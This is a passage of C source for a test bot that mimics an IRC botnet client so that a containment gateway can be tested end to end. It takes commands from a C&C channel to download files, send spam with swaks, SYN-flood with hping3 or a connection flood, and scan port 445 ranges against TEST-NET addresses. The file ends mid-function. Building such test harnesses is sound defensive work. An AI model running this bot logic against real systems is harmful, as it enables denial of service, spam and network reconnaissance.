/*
 * mamori-testbot: an inert stand-in for an IRC bot, for the containment
 * gateway's end-to-end test (tests/contain/e2e.sh, issue 5). It does what a
 * bot's network side does, and nothing else: it resolves its C&C by DNS,
 * joins an IRC channel and obeys commands there (download a file over HTTP,
 * send spam with swaks, SYN-flood a target with hping3, connect-scan a
 * range), then quits. It only ever talks to the lab's TEST-NET addresses
 * that the test gives it, from inside the inmate namespace, and everything
 * it does is bounded in time, bytes and counts.
 *
 *   mamori-testbot bot [--dns|--dns-fallback ADDR] [--cc NAME] [--port N] [--channel C]
 *                      [--nick N] [--out DIR] [--wait S]
 *   mamori-testbot garbage [--dns ADDR] [--cc NAME] [--url URL] [--out DIR]
 *   mamori-testbot storm --target ADDR:PORT [--count N] [--procs P]
 *                        [--hold-ms MS] [--then URL] [--dns ADDR] [--out DIR]
 *   mamori-testbot probe ADDR PORT [--timeout-ms MS]
 *   mamori-testbot resolve NAME [--dns ADDR]
 *
 * Commands in the channel (each answered with "done CMD ..." there, so the
 * controller can go step by step): "!download URL", "!spam",
 * "!flood [ADDR]", "!scan [A.B.C.FIRST-LAST] [PORT]", "!quit".
 *
 * Names are resolved with getaddrinfo() (the inmate's /etc/resolv.conf,
 * which `mamori sandbox run --resolver` points at the lab's DNS server), or,
 * with --dns ADDR, by a query of our own to ADDR: over UDP first and, when
 * UDP gets no answer (a gateway that does not serve UDP yet), over TCP.
 * --dns-fallback ADDR tries getaddrinfo() first and asks ADDR itself only
 * when that fails. Every mode takes these options; a name is resolved once.
 *
 * hping3 needs CAP_NET_RAW, which the sandbox drops; when it fails, "!flood"
 * falls back to a flood of TCP connections to the same target (port 80),
 * so that the gateway's connection-rate detector still has a flood to see.
 * The reply says which one ran.
 *
 * Exit codes: 0 the session went as commanded (bot: "!quit" received;
 * garbage/storm: the normal flow afterwards worked; probe/resolve: success),
 * 1 something failed (printed on stderr), 2 bad command line.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "mamori/base.h"

extern char **environ;

#define BOT_LINE_MAX	 512		    /* IRC lines (RFC 1459); longer ones are skipped */
#define BOT_HEAD_MAX	 16384		    /* HTTP response head */
#define BOT_BODY_MAX	 ((size_t)16 << 20) /* largest download */
#define BOT_URL_MAX	 512
#define BOT_IO_MS	 5000  /* one connect, read or write */
#define BOT_CHILD_MS	 30000 /* swaks, hping3 */
#define BOT_STORM_MAX	 20000 /* connections of one storm */
#define BOT_STORM_PROCS	 64    /* the sandbox allows 64 processes */
#define BOT_PER_PROC_FDS 240   /* RLIMIT_NOFILE is 256 in the sandbox */
#define BOT_FLOOD_CONNS	 300   /* connection flood when hping3 cannot run */
#define BOT_NAME_MAX	 253

static const char *opt_dns;   /* --dns ADDR: own resolver instead of getaddrinfo */
static bool opt_dns_fallback; /* --dns-fallback ADDR: getaddrinfo first, then own */
static const char *opt_out = "/tmp";

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	va_list ap;
	printf("[bot %.3f] ", mamori_now());
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	fflush(stdout);
}

/* The failure of the last step, on stderr, with mamori's detail message. */
static int complain(int err, const char *what)
{
	fprintf(stderr, "mamori-testbot: %s: %s (%s)\n", what, mamori_strerror(err), mamori_error_detail());
	return err;
}

static int remaining_ms(double deadline)
{
	double left = (deadline - mamori_now()) * 1000.0;
	return left <= 0 ? 0 : left > 600000 ? 600000 : (int)left;
}

/* ------------------------------------------------------------ sockets */

/* Connect with a timeout; *out_fd is a blocking socket on success. */
static int tcp_connect(int *out_fd, struct in_addr addr, uint16_t port, int timeout_ms)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), rc = MAMORI_OK;
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr = addr };
	char text[INET_ADDRSTRLEN];
	inet_ntop(AF_INET, &addr, text, sizeof text);
	*out_fd = -1;
	if (fd < 0)
		return mamori_fail(MAMORI_EIO, "socket: %s", strerror(errno));
	if (connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
		if (errno != EINPROGRESS) {
			rc = mamori_fail(MAMORI_EIO, "connect %s:%u: %s", text, port, strerror(errno));
			goto done;
		}
		struct pollfd p = { .fd = fd, .events = POLLOUT };
		int soerr = 0;
		socklen_t len = sizeof soerr;
		if (poll(&p, 1, timeout_ms) != 1) {
			rc = mamori_fail(MAMORI_EIO, "connect %s:%u: timed out", text, port);
			goto done;
		}
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &soerr, &len);
		if (soerr != 0) {
			rc = mamori_fail(MAMORI_EIO, "connect %s:%u: %s", text, port, strerror(soerr));
			goto done;
		}
	}
	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) & ~O_NONBLOCK);
	struct timeval tv = { .tv_sec = BOT_IO_MS / 1000 };
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	*out_fd = fd;
	fd = -1;
done:
	if (fd >= 0)
		close(fd);
	return rc;
}

static int send_text(int fd, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static int send_text(int fd, const char *fmt, ...)
{
	char buf[BOT_LINE_MAX + 64];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(buf, sizeof buf, fmt, ap);
	va_end(ap);
	if (n < 0 || (size_t)n >= sizeof buf)
		return mamori_fail(MAMORI_EINVAL, "line too long");
	if (!mamori_send_all(fd, buf, (size_t)n))
		return mamori_fail(MAMORI_EIO, "send: %s", strerror(errno));
	return MAMORI_OK;
}

/* ------------------------------------------------------------ DNS */

/* A query for the A record of `name`, with the given id. */
static int dns_query_build(uint8_t *out, size_t cap, size_t *out_len, const char *name, uint16_t id)
{
	size_t n = 0, len = strlen(name);
	if (len == 0 || len > BOT_NAME_MAX || cap < 12 + len + 2 + 4)
		return mamori_fail(MAMORI_EINVAL, "dns: bad name '%s'", name);
	const uint8_t head[12] = { id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
	memcpy(out, head, sizeof head);
	n = sizeof head;
	for (const char *label = name; *label;) {
		const char *dot = strchr(label, '.');
		size_t l = dot ? (size_t)(dot - label) : strlen(label);
		if (l == 0 || l > 63)
			return mamori_fail(MAMORI_EINVAL, "dns: bad label in '%s'", name);
		out[n++] = (uint8_t)l;
		memcpy(out + n, label, l);
		n += l;
		label += l + (dot ? 1 : 0);
	}
	out[n++] = 0;
	const uint8_t tail[4] = { 0, 1, 0, 1 }; /* A, IN */
	memcpy(out + n, tail, sizeof tail);
	*out_len = n + sizeof tail;
	return MAMORI_OK;
}

/* Skip a (possibly compressed) name at the cursor. */
static int dns_skip_name(mamori_cursor *cur)
{
	for (unsigned labels = 0; labels < 128; labels++) {
		uint8_t l;
		int rc = mamori_read_u8(cur, &l);
		if (rc != MAMORI_OK)
			return rc;
		if (l == 0)
			return MAMORI_OK;
		if ((l & 0xc0) == 0xc0) /* a pointer ends the name */
			return mamori_cursor_skip(cur, 1);
		if ((l & 0xc0) != 0)
			return mamori_fail(MAMORI_EFORMAT, "dns: label type 0x%02x", l);
		if ((rc = mamori_cursor_skip(cur, l)) != MAMORI_OK)
			return rc;
	}
	return mamori_fail(MAMORI_EFORMAT, "dns: name with too many labels");
}

/* The first A record of a response to query `id`. */
static int dns_answer_parse(struct in_addr *out, const uint8_t *buf, size_t len, uint16_t id)
{
	mamori_cursor cur;
	uint16_t rid, flags, qd, an, skip;
	int rc;
	mamori_cursor_init(&cur, buf, len);
	if ((rc = mamori_read_u16be(&cur, &rid)) != MAMORI_OK || (rc = mamori_read_u16be(&cur, &flags)) ||
	    (rc = mamori_read_u16be(&cur, &qd)) || (rc = mamori_read_u16be(&cur, &an)) ||
	    (rc = mamori_read_u16be(&cur, &skip)) || (rc = mamori_read_u16be(&cur, &skip)))
		return mamori_fail(MAMORI_ETRUNC, "dns: short response (%zu bytes)", len);
	if (rid != id || !(flags & 0x8000))
		return mamori_fail(MAMORI_EFORMAT, "dns: not our response");
	if ((flags & 0x000f) != 0)
		return mamori_fail(MAMORI_ENOTFOUND, "dns: rcode %u", flags & 0x000f);
	for (unsigned i = 0; i < qd; i++)
		if ((rc = dns_skip_name(&cur)) != MAMORI_OK ||
		    (rc = mamori_cursor_skip(&cur, 4)) != MAMORI_OK)
			return rc;
	for (unsigned i = 0; i < an; i++) {
		uint16_t type, class, rdlen;
		uint32_t ttl;
		const uint8_t *rdata;
		if ((rc = dns_skip_name(&cur)) != MAMORI_OK || (rc = mamori_read_u16be(&cur, &type)) ||
		    (rc = mamori_read_u16be(&cur, &class)) || (rc = mamori_read_u32be(&cur, &ttl)) ||
		    (rc = mamori_read_u16be(&cur, &rdlen)) || (rc = mamori_read_bytes(&cur, rdlen, &rdata)))
			return rc;
		if (type == 1 && class == 1 && rdlen == 4) {
			memcpy(&out->s_addr, rdata, 4);
			return MAMORI_OK;
		}
	}
	return mamori_fail(MAMORI_ENOTFOUND, "dns: no A record in %u answers", an);
}

static int dns_via_udp(struct in_addr *out, struct in_addr server, const uint8_t *q, size_t qlen, uint16_t id)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), rc = MAMORI_ETRUNC;
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(53), .sin_addr = server };
	if (fd < 0)
		return mamori_fail(MAMORI_EIO, "socket: %s", strerror(errno));
	rc = mamori_fail(MAMORI_EIO, "dns: no answer over UDP");
	for (int attempt = 0; attempt < 2; attempt++) {
		if (sendto(fd, q, qlen, 0, (struct sockaddr *)&sa, sizeof sa) != (ssize_t)qlen)
			break;
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (poll(&p, 1, 1500) != 1)
			continue;
		uint8_t buf[1500];
		ssize_t n = recv(fd, buf, sizeof buf, 0);
		if (n > 0) {
			rc = dns_answer_parse(out, buf, (size_t)n, id);
			break;
		}
	}
	close(fd);
	return rc;
}

/* DNS over TCP (RFC 1035 4.2.2): two bytes of length, then the message. */
static int dns_via_tcp(struct in_addr *out, struct in_addr server, const uint8_t *q, size_t qlen, uint16_t id)
{
	int fd = -1, rc;
	uint8_t msg[2 + 512], lenbuf[2], buf[4096];
	size_t got = 0;
	if ((rc = tcp_connect(&fd, server, 53, BOT_IO_MS)) != MAMORI_OK)
		return rc;
	msg[0] = (uint8_t)(qlen >> 8);
	msg[1] = (uint8_t)qlen;
	memcpy(msg + 2, q, qlen);
	if (!mamori_send_all(fd, msg, qlen + 2)) {
		rc = mamori_fail(MAMORI_EIO, "dns/tcp: send: %s", strerror(errno));
		goto done;
	}
	if (recv(fd, lenbuf, 2, MSG_WAITALL) != 2) {
		rc = mamori_fail(MAMORI_EIO, "dns/tcp: no answer");
		goto done;
	}
	size_t want = (size_t)lenbuf[0] << 8 | lenbuf[1];
	if (want > sizeof buf) {
		rc = mamori_fail(MAMORI_ELIMIT, "dns/tcp: answer of %zu bytes", want);
		goto done;
	}
	while (got < want) {
		ssize_t n = recv(fd, buf + got, want - got, 0);
		if (n <= 0) {
			rc = mamori_fail(MAMORI_ETRUNC, "dns/tcp: answer cut at %zu of %zu bytes", got, want);
			goto done;
		}
		got += (size_t)n;
	}
	rc = dns_answer_parse(out, buf, got, id);
done:
	if (fd >= 0)
		close(fd);
	return rc;
}

/* Names resolved so far: a failing resolver costs its timeout once a name. */
static struct {
	char name[BOT_NAME_MAX + 1];
	struct in_addr addr;
} name_cache[8];

static int resolve_uncached(struct in_addr *out, const char *name)
{
	if (!opt_dns || opt_dns_fallback) {
		struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *res = NULL;
		int e = getaddrinfo(name, NULL, &hints, &res);
		if (e == 0) {
			*out = ((struct sockaddr_in *)res->ai_addr)->sin_addr;
			freeaddrinfo(res);
			say("resolved %s with getaddrinfo", name);
			return MAMORI_OK;
		}
		if (!opt_dns)
			return mamori_fail(MAMORI_ENOTFOUND, "getaddrinfo %s: %s", name, gai_strerror(e));
		say("getaddrinfo %s: %s; asking %s myself", name, gai_strerror(e), opt_dns);
	}
	struct in_addr server;
	uint8_t q[512];
	size_t qlen = 0;
	uint16_t id = (uint16_t)(getpid() ^ (unsigned)(mamori_now() * 1000.0));
	int rc;
	if (inet_pton(AF_INET, opt_dns, &server) != 1)
		return mamori_fail(MAMORI_EINVAL, "--dns %s: not an IPv4 address", opt_dns);
	if ((rc = dns_query_build(q, sizeof q, &qlen, name, id)) != MAMORI_OK)
		return rc;
	if ((rc = dns_via_udp(out, server, q, qlen, id)) == MAMORI_OK) {
		say("resolved %s over UDP via %s", name, opt_dns);
		return rc;
	}
	say("no DNS answer over UDP (%s); trying TCP", mamori_error_detail());
	if ((rc = dns_via_tcp(out, server, q, qlen, id)) == MAMORI_OK)
		say("resolved %s over TCP via %s", name, opt_dns);
	return rc;
}

/* An IPv4 address for `name`: a literal, getaddrinfo, or our own query. */
static int resolve(struct in_addr *out, const char *name)
{
	size_t i, n = sizeof name_cache / sizeof name_cache[0];
	if (inet_pton(AF_INET, name, out) == 1)
		return MAMORI_OK;
	for (i = 0; i < n && name_cache[i].name[0]; i++) {
		if (!strcmp(name_cache[i].name, name)) {
			*out = name_cache[i].addr;
			return MAMORI_OK;
		}
	}
	int rc = resolve_uncached(out, name);
	if (rc == MAMORI_OK && i < n && strlen(name) <= BOT_NAME_MAX) {
		snprintf(name_cache[i].name, sizeof name_cache[i].name, "%s", name);
		name_cache[i].addr = *out;
	}
	return rc;
}

/* --dns ADDR and --dns-fallback ADDR, shared by every mode. */
static bool dns_option(const char *opt, const char *val)
{
	if (strcmp(opt, "--dns") != 0 && strcmp(opt, "--dns-fallback") != 0)
		return false;
	opt_dns = val;
	opt_dns_fallback = !strcmp(opt, "--dns-fallback");
	return true;
}

/* ------------------------------------------------------------ HTTP */

typedef struct bot_url {
	char host[BOT_NAME_MAX + 1];
	char path[BOT_URL_MAX];
	uint16_t port;
} bot_url;

/* http://HOST[:PORT][/PATH], nothing else. */
static int url_parse(bot_url *out, const char *url)
{
	const char *p = url, *end;
	size_t n;
	if (strlen(url) >= BOT_URL_MAX || strncmp(p, "http://", 7) != 0)
		return mamori_fail(MAMORI_EINVAL, "url '%.64s': only http:// URLs", url);
	p += 7;
	n = strcspn(p, ":/");
	if (n == 0 || n > BOT_NAME_MAX)
		return mamori_fail(MAMORI_EINVAL, "url: bad host");
	memcpy(out->host, p, n);
	out->host[n] = '\0';
	p += n;
	out->port = 80;
	if (*p == ':') {
		unsigned long v = strtoul(p + 1, (char **)&end, 10);
		if (end == p + 1 || v == 0 || v > 65535)
			return mamori_fail(MAMORI_EINVAL, "url: bad port");
		out->port = (uint16_t)v;
		p = end;
	}
	snprintf(out->path, sizeof out->path, "%s", *p ? p : "/");
	if (out->path[0] != '/' || strpbrk(out->path, " \r\n"))
		return mamori_fail(MAMORI_EINVAL, "url: bad path");
	return MAMORI_OK;
}

/* GET with HTTP/1.0; the 200 body is saved as OUT/NAME (the last path
 * component) and its SHA-256 returned. */
static int http_download(char sha_out[65], size_t *out_size, const char *url, char *saved, size_t saved_cap)
{
	bot_url u;
	struct in_addr addr;
	int fd = -1, rc;
	mamori_vec buf;
	mamori_vec_init(&buf, 1, BOT_HEAD_MAX + BOT_BODY_MAX);
	if ((rc = url_parse(&u, url)) != MAMORI_OK || (rc = resolve(&addr, u.host)) != MAMORI_OK ||
	    (rc = tcp_connect(&fd, addr, u.port, BOT_IO_MS)) != MAMORI_OK)
		goto done;
	if ((rc = send_text(fd, "GET %s HTTP/1.0\r\nHost: %s\r\nUser-Agent: mamori-testbot/1.0\r\n\r\n",
			    u.path, u.host)) != MAMORI_OK)
		goto done;
	for (;;) {
		uint8_t *room;
		if ((rc = mamori_vec_grow(&buf, 65536, (void **)&room)) != MAMORI_OK)
			goto done;
		buf.count -= 65536;
		ssize_t n = recv(fd, room, 65536, 0);
		if (n < 0) {
			rc = mamori_fail(MAMORI_EIO, "http: recv: %s", strerror(errno));
			goto done;
		}
		if (n == 0)
			break;
		buf.count += (size_t)n;
	}
	const char *data = buf.data;
	size_t head = 0;
	for (size_t i = 0; i + 4 <= buf.count && i < BOT_HEAD_MAX; i++) {
		if (!memcmp(data + i, "\r\n\r\n", 4)) {
			head = i + 4;
			break;
		}
	}
	if (head == 0 || buf.count < 12 ||
	    (memcmp(data, "HTTP/1.0 200", 12) && memcmp(data, "HTTP/1.1 200", 12))) {
		rc = mamori_fail(MAMORI_EFORMAT, "http: no 200 response (%zu bytes)", buf.count);
		goto done;
	}
	*out_size = buf.count - head;
	mamori_sha256_hex(sha_out, data + head, *out_size);
	const char *name = strrchr(u.path, '/') + 1;
	snprintf(saved, saved_cap, "%s/%s", opt_out, *name && !strstr(name, "..") ? name : "download.bin");
	rc = mamori_file_write_atomic(saved, data + head, *out_size);
done:
	if (fd >= 0)
		close(fd);
	mamori_vec_free(&buf);
	return rc;
}

/* ------------------------------------------------------------ children */

/* Run a program (argv[0] searched in PATH) for at most BOT_CHILD_MS, its
 * stdout and stderr into `log` (NULL: ours); its exit code, 128+signal, or
 * -1 when it could not be started. */
static int run_child(char *const argv[], const char *log)
{
	pid_t pid;
	int status = 0, err;
	posix_spawn_file_actions_t fa;
	posix_spawn_file_actions_init(&fa);
	if (log) {
		posix_spawn_file_actions_addopen(&fa, 1, log, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		posix_spawn_file_actions_adddup2(&fa, 1, 2);
	}
	err = posix_spawnp(&pid, argv[0], &fa, NULL, argv, environ);
	posix_spawn_file_actions_destroy(&fa);
	if (err != 0)
		return -1;
	double deadline = mamori_now() + BOT_CHILD_MS / 1000.0;
	for (;;) {
		pid_t w = waitpid(pid, &status, WNOHANG);
		if (w == pid)
			break;
		if (w < 0)
			return -1;
		if (remaining_ms(deadline) == 0) {
			kill(pid, SIGKILL);
			waitpid(pid, &status, 0);
			break;
		}
		usleep(20000);
	}
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* ------------------------------------------------------------ flood, scan, storm */

/* Open `count` connections to addr:port as fast as possible, at most
 * `hold` at a time, each kept for hold_ms; counts what the far end did. */
typedef struct storm_counts {
	unsigned attempted, connected, failed, reset, open_at_end;
} storm_counts;

static void storm_batch(storm_counts *c, struct in_addr addr, uint16_t port, unsigned count, int hold_ms)
{
	int fds[BOT_PER_PROC_FDS];
	unsigned n = 0;
	while (c->attempted < count) {
		n = 0;
		for (; n < BOT_PER_PROC_FDS && c->attempted < count; n++, c->attempted++) {
			struct sockaddr_in sa = { .sin_family = AF_INET,
						  .sin_port = htons(port),
						  .sin_addr = addr };
			fds[n] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
			if (fds[n] < 0) {
				c->failed++;
				continue;
			}
			if (connect(fds[n], (struct sockaddr *)&sa, sizeof sa) != 0 && errno != EINPROGRESS) {
				c->failed++;
				close(fds[n]);
				fds[n] = -1;
			}
		}
		/* Hold them, then see which ones the far end reset. */
		usleep((useconds_t)hold_ms * 1000u);
		for (unsigned i = 0; i < n; i++) {
			if (fds[i] < 0)
				continue;
			int soerr = 0;
			socklen_t len = sizeof soerr;
			struct sockaddr_in peer;
			socklen_t plen = sizeof peer;
			char byte;
			getsockopt(fds[i], SOL_SOCKET, SO_ERROR, &soerr, &len);
			bool up = soerr == 0 && getpeername(fds[i], (struct sockaddr *)&peer, &plen) == 0;
			ssize_t r = up ? recv(fds[i], &byte, 1, MSG_DONTWAIT) : -1;
			if (soerr == ECONNRESET || (up && r < 0 && errno == ECONNRESET)) {
				/* Accepted, then reset: over the gateway's cap, or dropped. */
				c->connected++;
				c->reset++;
			} else if (!up) {
				c->failed++; /* refused, or the handshake never finished */
			} else {
				c->connected++;
				if (r < 0 && errno == EAGAIN)
					c->open_at_end++;
			}
			close(fds[i]);
		}
	}
}

static int storm(storm_counts *total, struct in_addr addr, uint16_t port, unsigned count, unsigned procs,
		 int hold_ms)
{
	int pipes[BOT_STORM_PROCS][2];
	pid_t pids[BOT_STORM_PROCS];
	unsigned started = 0;
	memset(total, 0, sizeof *total);
	if (procs == 0 || procs > BOT_STORM_PROCS)
		procs = 1;
	for (unsigned i = 0; i < procs; i++) {
		unsigned share = count / procs + (i < count % procs ? 1 : 0);
		if (pipe(pipes[i]) != 0)
			break;
		pids[i] = fork();
		if (pids[i] == 0) {
			storm_counts c = { 0 };
			close(pipes[i][0]);
			storm_batch(&c, addr, port, share, hold_ms);
			_exit(write(pipes[i][1], &c, sizeof c) == sizeof c ? 0 : 1);
		}
		close(pipes[i][1]);
		if (pids[i] < 0) {
			close(pipes[i][0]);
			break;
		}
		started++;
	}
	for (unsigned i = 0; i < started; i++) {
		storm_counts c = { 0 };
		if (read(pipes[i][0], &c, sizeof c) == sizeof c) {
			total->attempted += c.attempted;
			total->connected += c.connected;
			total->failed += c.failed;
			total->reset += c.reset;
			total->open_at_end += c.open_at_end;
		}
		close(pipes[i][0]);
		waitpid(pids[i], NULL, 0);
	}
	return started == procs ? MAMORI_OK
				: mamori_fail(MAMORI_EIO, "storm: started %u of %u", started, procs);
}

/* hping3 as commanded; when it cannot send (no CAP_NET_RAW), a connection
 * flood instead. hping3 exits 1 both when nothing answered (what the
 * gateway should make happen) and when it could not open its raw socket:
 * its statistics line tells which. */
static void do_flood(char *reply, size_t cap, const char *target)
{
	char *const argv[] = { "hping3", "-S", "-p", "80", "--faster", "-c", "3000", (char *)target, NULL };
	char log[1024];
	uint8_t *out = NULL;
	size_t len = 0;
	unsigned long sent = 0;
	snprintf(log, sizeof log, "%s/hping3-%d.txt", opt_out, (int)getpid());
	int rc = run_child(argv, log);
	if (mamori_file_read(&out, &len, log, 1 << 16) == MAMORI_OK) {
		/* "3000 packets transmitted, 0 packets received, ..." */
		const char *stat = strstr((const char *)out, " packets transmitted");
		const char *p = stat;
		while (p && p > (const char *)out && p[-1] >= '0' && p[-1] <= '9')
			p--;
		if (stat && p < stat)
			sent = strtoul(p, NULL, 10);
		fwrite(out, 1, len, stdout);
		free(out);
	}
	unlink(log);
	say("hping3 %s: exit %d, %lu packets sent", target, rc, sent);
	if (sent > 0) {
		snprintf(reply, cap, "flood hping3=%d sent=%lu target=%s", rc, sent, target);
		return;
	}
	struct in_addr addr;
	storm_counts c = { 0 };
	if (inet_pton(AF_INET, target, &addr) == 1)
		storm_batch(&c, addr, 80, BOT_FLOOD_CONNS, 200);
	say("connection flood %s:80: %u attempted, %u connected", target, c.attempted, c.connected);
	snprintf(reply, cap, "flood hping3=%d fallback=connect conns=%u target=%s", rc, c.attempted, target);
}

/* Connect scan of BASE.FIRST-LAST:port with short timeouts, paced. */
static void do_scan(char *reply, size_t cap, const char *range, uint16_t port)
{
	unsigned a, b, c, first, last, open = 0, tried = 0;
	if (sscanf(range, "%u.%u.%u.%u-%u", &a, &b, &c, &first, &last) != 5 || a > 255 || b > 255 ||
	    c > 255 || first > last || last > 255) {
		snprintf(reply, cap, "scan error bad-range");
		return;
	}
	for (unsigned d = first; d <= last; d++, tried++) {
		char text[INET_ADDRSTRLEN];
		struct in_addr addr;
		int fd;
		snprintf(text, sizeof text, "%u.%u.%u.%u", a, b, c, d);
		inet_pton(AF_INET, text, &addr);
		if (tcp_connect(&fd, addr, port, 300) == MAMORI_OK) {
			open++;
			close(fd);
		}
		/* 100 probes a second, like a modest scanner: a burst of
		 * thousands a second tests the gateway's accept path, which
		 * the storm does (e2e.sh, failure c). */
		usleep(10000);
	}
	say("scan %s port %u: %u of %u answered", range, port, open, tried);
	snprintf(reply, cap, "scan tried=%u open=%u", tried, open);
}

/* ------------------------------------------------------------ IRC */

typedef struct irc_reader {
	char line[BOT_LINE_MAX + 1];
	size_t len;
	bool skipping; /* inside a line longer than BOT_LINE_MAX */
	uint8_t in[4096];
	size_t in_len, in_pos;
} irc_reader;

/* The next line (without CR/LF) within timeout_ms: 1, 0 on timeout, or an
 * error when the server closed. Overlong lines are skipped whole. */
static int irc_read_line(irc_reader *r, int fd, int timeout_ms)
{
	double deadline = mamori_now() + timeout_ms / 1000.0;
	for (;;) {
		while (r->in_pos < r->in_len) {
			char ch = (char)r->in[r->in_pos++];
			if (ch == '\n') {
				bool was_skipping = r->skipping;
				r->skipping = false;
				if (was_skipping) {
					r->len = 0;
					continue;
				}
				if (r->len > 0 && r->line[r->len - 1] == '\r')
					r->len--;
				r->line[r->len] = '\0';
				r->len = 0;
				return 1;
			}
			if (r->skipping)
				continue;
			if (r->len == BOT_LINE_MAX) {
				r->skipping = true;
				continue;
			}
			r->line[r->len++] = ch;
		}
		struct pollfd p = { .fd = fd, .events = POLLIN };
		int left = remaining_ms(deadline);
		if (left == 0 || poll(&p, 1, left) != 1)
			return 0;
		ssize_t n = recv(fd, r->in, sizeof r->in, 0);
		if (n <= 0)
			return mamori_fail(MAMORI_EIO, "irc: server closed the connection");
		r->in_len = (size_t)n;
		r->in_pos = 0;
	}
}

/* Obey one "!command" from the channel; false when it was "!quit". */
static bool irc_obey(int fd, const char *channel, char *cmd)
{
	char reply[BOT_LINE_MAX - 64] = "";
	char *save = NULL, *verb = strtok_r(cmd, " ", &save), *arg1 = strtok_r(NULL, " ", &save),
	     *arg2 = strtok_r(NULL, " ", &save);
	say("command %s %s %s", verb, arg1 ? arg1 : "", arg2 ? arg2 : "");
	if (!strcmp(verb, "!quit")) {
		send_text(fd, "QUIT :bye\r\n");
		return false;
	} else if (!strcmp(verb, "!download") && arg1) {
		char sha[65], saved[1024];
		size_t size = 0;
		int rc = http_download(sha, &size, arg1, saved, sizeof saved);
		if (rc == MAMORI_OK) {
			say("downloaded %s: %zu bytes, sha256 %s, saved as %s", arg1, size, sha, saved);
			snprintf(reply, sizeof reply, "download %s size=%zu sha256=%s", arg1, size, sha);
		} else {
			complain(rc, "download");
			snprintf(reply, sizeof reply, "download error");
		}
	} else if (!strcmp(verb, "!spam")) {
		/* swaks keeps only the last of several --to options: one list. */
		char *const argv[] = { "swaks",
				       "--to",
				       "a@victim.example,b@victim.example",
				       "--server",
				       "203.0.113.25",
				       "--header",
				       "Subject: buy now",
				       "--timeout",
				       "10",
				       NULL };
		int rc = run_child(argv, NULL);
		say("swaks: exit %d", rc);
		snprintf(reply, sizeof reply, "spam swaks=%d", rc);
	} else if (!strcmp(verb, "!flood")) {
		do_flood(reply, sizeof reply, arg1 ? arg1 : "203.0.113.66");
	} else if (!strcmp(verb, "!scan")) {
		unsigned long port = arg2 ? strtoul(arg2, NULL, 10) : 445;
		do_scan(reply, sizeof reply, arg1 ? arg1 : "203.0.113.100-140",
			(uint16_t)(port && port < 65536 ? port : 445));
	} else {
		snprintf(reply, sizeof reply, "unknown");
	}
	send_text(fd, "PRIVMSG %s :done %s\r\n", channel, reply);
	return true;
}

static int cmd_bot(int argc, char **argv)
{
	const char *cc = "cc.bot.example", *channel = "#chan";
	char nick[32];
	unsigned long port = 6667, wait_s = 120;
	struct in_addr addr;
	int fd = -1, rc;
	irc_reader *r = calloc(1, sizeof *r);
	snprintf(nick, sizeof nick, "bot%05d", (int)(getpid() % 100000));
	for (int i = 1; i + 1 < argc; i += 2) {
		if (dns_option(argv[i], argv[i + 1]))
			continue;
		else if (!strcmp(argv[i], "--cc"))
			cc = argv[i + 1];
		else if (!strcmp(argv[i], "--port"))
			port = strtoul(argv[i + 1], NULL, 10);
		else if (!strcmp(argv[i], "--channel"))
			channel = argv[i + 1];
		else if (!strcmp(argv[i], "--nick"))
			snprintf(nick, sizeof nick, "%s", argv[i + 1]);
		else if (!strcmp(argv[i], "--out"))
			opt_out = argv[i + 1];
		else if (!strcmp(argv[i], "--wait"))
			wait_s = strtoul(argv[i + 1], NULL, 10);
		else
			wait_s = 0; /* refused below */
	}
	if (!r || port == 0 || port > 65535 || channel[0] != '#' || strpbrk(channel, " \r\n,") ||
	    strlen(channel) > 50 || wait_s == 0 || wait_s > 3600) {
		free(r);
		return 2;
	}
	double deadline = mamori_now() + (double)wait_s;
	if ((rc = resolve(&addr, cc)) != MAMORI_OK)
		goto done;
	char cc_text[INET_ADDRSTRLEN];
	say("C&C %s is %s", cc, inet_ntop(AF_INET, &addr, cc_text, sizeof cc_text));
	if ((rc = tcp_connect(&fd, addr, (uint16_t)port, BOT_IO_MS)) != MAMORI_OK)
		goto done;
	if ((rc = send_text(fd, "NICK %s\r\nUSER %s 0 * :inert test bot\r\n", nick, nick)) != MAMORI_OK)
		goto done;
	rc = mamori_fail(MAMORI_EIO, "no !quit within %lu s", wait_s);
	for (;;) {
		int got = irc_read_line(r, fd, remaining_ms(deadline));
		if (got < 0) {
			rc = got;
			break;
		}
		if (got == 0)
			break;
		char *line = r->line, *prefix = NULL, *save = NULL;
		if (line[0] == ':') {
			prefix = strtok_r(line + 1, " ", &save);
			line = save;
		}
		if (!line)
			continue;
		if (!strncmp(line, "PING ", 5)) {
			send_text(fd, "PONG %s\r\n", line + 5);
		} else if (!strncmp(line, "001 ", 4)) {
			say("registered as %s; joining %s", nick, channel);
			send_text(fd, "JOIN %s\r\n", channel);
		} else if (!strncmp(line, "PRIVMSG ", 8)) {
			char *target = line + 8, *text = strstr(target, " :");
			size_t tlen = strlen(channel);
